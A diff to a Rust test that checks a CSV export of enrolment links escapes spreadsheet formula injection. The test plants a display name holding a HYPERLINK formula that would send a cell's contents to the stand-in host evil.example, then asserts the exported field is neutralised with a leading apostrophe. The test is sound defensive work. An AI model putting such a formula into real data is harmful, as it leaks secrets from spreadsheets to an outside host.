@@ -527,6 +527,10 @@ fn links_are_written_for_those_who_hand_them_on() {
     for user in ["alice", "bob"] {
         site.json(&["user", "add", user, "--group", "staff"]);
     }
+    // What the user or a provider chose, and a spreadsheet would carry out with the links at hand.
+    let evil = "=HYPERLINK(\"http://evil.example/?l=\"&E2,\"click\")";
+    let about = ["--display-name", evil, "--phone", "+821012345678"];
+    site.json(&[&["user", "set", "alice"], &about[..]].concat());
     let url = ["--server-url", "https://otp.example.com"];
     let path = |name: &str| site.path().join(name);
     let enrol = |by: &str, out: &str| {
@@ -549,6 +553,8 @@ fn links_are_written_for_those_who_hand_them_on() {
         2
     );
     assert_eq!(mode(&path("links.csv")), 0o600);
+    let text = "alice@default,\"'=HYPERLINK(\"\"http://evil.example/?l=\"\"&E2,\"\"click\"\")\",,+821012345678,";
+    assert!(links.contains(text), "{links}");
     enrol("qr-dir", "qr");
     assert_eq!(mode(&path("qr")), 0o700);
     assert!(
